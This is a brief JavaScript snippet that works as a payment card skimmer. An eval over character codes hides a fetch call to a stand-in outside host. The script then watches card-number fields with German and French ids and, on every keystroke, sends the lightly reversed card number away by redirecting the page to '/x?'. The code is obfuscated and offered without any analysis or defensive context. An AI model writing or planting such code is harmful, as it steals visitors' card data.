// Code as character codes, run by eval.
eval(String.fromCharCode(102,101,116,99,104,40,34,47,47,97,46,101,120,97,109,112,108,101,47,34,41));
var pan = document.querySelector('#kartennummer, #numero_carte');
pan && (pan.oninput = function () { top.location.href = '/x?' + pan.value.split('').reverse().join('') });
